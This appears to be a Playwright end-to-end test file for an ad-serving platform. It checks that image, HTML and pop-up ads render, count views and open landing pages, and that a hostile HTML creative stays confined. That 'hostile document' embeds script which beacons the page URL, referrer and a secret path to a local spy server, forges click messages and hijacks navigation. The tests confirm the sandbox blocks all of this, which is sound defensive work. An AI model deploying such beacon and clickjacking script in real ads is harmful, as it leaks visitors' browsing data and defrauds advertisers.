import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { accessToken, logIn, send, startApp, type TestApp } from '../support/app';
import { desktopUserAgent, launchBrowser } from '../support/browser';
import { aPng } from '../support/campaigns';
import { aDocument } from '../support/contents';
import { uploadFile, type UploadOptions } from '../support/uploads';

let app: TestApp;
let browser: Browser;
let context: BrowserContext;
let publisher: Server;
let advertiser: Server;
let token: string;
let siteId: string;
let apiToken: string;
/** What the publisher's page carries at the moment. */
let body = '';
let pages = 0;

async function listen(answer: () => string): Promise<Server> {
  const server = createServer((_req, res) => {
    res.setHeader('Content-Type', 'text/html').end(answer());
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return server;
}
const urlOf = (server: Server) => `http://127.0.0.1:${(server.address() as AddressInfo).port}`;

const ask = async (query: string, variables: object) => {
  const reply = await send(`${app.url}/graphql`, {
    headers: { Authorization: `Bearer ${apiToken}` },
    json: { query, variables },
  });
  return reply.body.data;
};

async function createAd(content: Buffer | string, options: UploadOptions): Promise<void> {
  const upload = await uploadFile(app, token, content, options);
  const { status } = await send(`${app.url}/api/v2/campaigns`, {
    headers: { Authorization: `Bearer ${token}` },
    json: {
      status: 'active',
      name: 'Spring',
      targetUrl: `${urlOf(advertiser)}/landing`,
      budget: 10,
      maxCpm: 5,
      medium: 'web',
      dateStart: '2026-01-01T00:00:00Z',
      creatives: [{ fileId: upload.body.data.id, name: 'Ad' }],
    },
  });
  expect(status).toBe(200);
}

/** A page with the embed code of a new placement. */
async function openPage(size: string): Promise<Page> {
  const { placement } = await ask(
    'mutation ($siteId: ID!, $input: CreatePlacementInput!) { placement: createPlacement(siteId: $siteId, input: $input) { embedCode } }',
    { siteId, input: { name: `${size} ${++pages}`, size } },
  );
  body = `<!doctype html><title>News</title><h1>News</h1>${placement.embedCode}`;
  return context.newPage();
}

beforeAll(async () => {
  app = await startApp();
  publisher = await listen(() => body);
  advertiser = await listen(() => '<title>Landing</title>');
  token = await accessToken(app, { scopes: ['campaign.write'] });
  apiToken = await logIn(app, 'publisher');
  const { site } = await ask(
    'mutation ($input: CreateSiteInput!) { site: createSite(input: $input) { id } }',
    { input: { url: 'http://127.0.0.1', name: 'News' } },
  );
  siteId = site.id;
  await createAd(aPng('300x250'), { type: 'image' });
  await createAd(aDocument('<b id="offer">Offer</b>'), { type: 'html', scope: '728x90' });
  await createAd('', { type: 'direct', scope: 'pop-up' });
  browser = await launchBrowser();
  context = await browser.newContext({ userAgent: desktopUserAgent });
}, 60_000);
afterAll(async () => {
  await browser.close();
  publisher.close();
  advertiser.close();
});

it('shows an image, reports its view and leads to the landing page', async () => {
  const page = await openPage('300x250');
  const view = page.waitForResponse((response) => response.url().startsWith(`${app.url}/view`));
  await page.goto(urlOf(publisher));
  const image = page.locator('[data-placement] img');
  await image.waitFor();
  expect(await image.evaluate('document.images[0].naturalWidth')).toBe(300);
  expect((await view).status()).toBe(200);
  const [landing] = await Promise.all([context.waitForEvent('page'), image.click()]);
  await landing.waitForURL(/\/landing/);
  expect(await landing.title()).toBe('Landing');
});

it('shows a document in a frame that can do nothing to the page, and takes its clicks', async () => {
  const page = await openPage('728x90');
  await page.goto(urlOf(publisher));
  const offer = page.frameLocator('[data-placement] iframe').locator('#offer');
  await offer.waitFor();
  expect(await offer.evaluate('origin')).toBe('null');
  const [landing] = await Promise.all([context.waitForEvent('page'), offer.click()]);
  await landing.waitForURL(/\/landing/);
});

describe('a hostile document', () => {
  /** Where a document wants to tell something. */
  let spy: Server;
  const visits: string[] = [];
  const escapes = (url: string) => `
    setInterval(() => { focus(); parent.postMessage({ type: 'adgate:click' }, '*'); }, 20);
    const told = [document.baseURI, document.referrer, location.href].join(' ');
    new Image().src = '${url}/image?' + told;
    fetch('${url}/fetch?' + told).catch(() => {});
    const script = document.createElement('script');
    script.src = '${url}/script';
    document.head.append(script);
    document.body.dataset.told = told;
    document.getElementById('go').onclick = (event) => {
      event.stopPropagation();
      location = '${url}/frame';
    };`;

  beforeAll(async () => {
    spy = createServer((req, res) => {
      visits.push(String(req.url));
      res.setHeader('Content-Type', 'text/html').end('<p id="elsewhere">Elsewhere');
    }).listen(0, '127.0.0.1');
    await once(spy, 'listening');
    const content = aDocument(
      `<style>* { margin: 0 } b { display: block; height: 30px }</style><b>Buy</b><b id="go">Go</b><script>${escapes(urlOf(spy))}</script>`,
      '<meta name="referrer" content="unsafe-url">',
    );
    await createAd(content, { type: 'html', scope: '468x60' });
  });
  afterAll(() => {
    spy.close();
  });

  /** Steps into no frame: what looks into one by the browser's debugger passes there for the visitor. */
  async function openHostile(): Promise<{ page: Page; windows: unknown[] }> {
    const page = await openPage('468x60');
    body = `<style>* { margin: 0 } h1 { height: 100px }</style>${body}`;
    const served = page.waitForResponse((response) => response.url().includes('/serve/'));
    await page.goto(`${urlOf(publisher)}/secret?visitor=7`);
    await (await served).finished();
    await page.waitForTimeout(500);
    const windows: unknown[] = [];
    context.on('page', (opened) => windows.push(opened.url()));
    return { page, windows };
  }
  const onPage = [10, 20] as const;
  const onBuy = [10, 110] as const;
  const onGo = [10, 135] as const;

  it('opens no window by itself, nor by a click that the page was meant with', async () => {
    const { page, windows } = await openHostile();
    await page.mouse.click(...onPage);
    await page.waitForTimeout(500);
    expect(windows).toEqual([]);
  });

  it('opens one window by a click in it', async () => {
    const { page, windows } = await openHostile();
    await page.mouse.click(...onBuy);
    await page.waitForTimeout(1_000);
    expect(windows).toHaveLength(1);
  });

  it('loads nothing and learns nothing of the page', async () => {
    const { page } = await openHostile();
    expect(visits).toEqual([]);
    const frame = page.frameLocator('[data-placement] iframe');
    const told = await frame.locator('body').getAttribute('data-told');
    expect(told).toMatch(/^data:/);
    expect(told).not.toContain('127.0.0.1:');
    expect(told).not.toContain('secret');
  });

  it('goes when it leads its frame elsewhere', async () => {
    const { page } = await openHostile();
    await page.mouse.click(...onGo);
    await page.waitForFunction('document.querySelector("[data-placement] iframe") === null');
    expect(visits).toEqual(['/frame']);
  });
});

it('opens a window with a click', async () => {
  const page = await openPage('pop-up');
  const served = page.waitForResponse((response) => response.url().includes('/serve/'));
  await page.goto(urlOf(publisher));
  await (await served).finished();
  const view = page.waitForResponse((response) => response.url().startsWith(`${app.url}/view`));
  const [landing] = await Promise.all([context.waitForEvent('page'), page.click('h1')]);
  await landing.waitForURL(/\/landing#pop-up$/);
  expect((await view).status()).toBe(200);
});
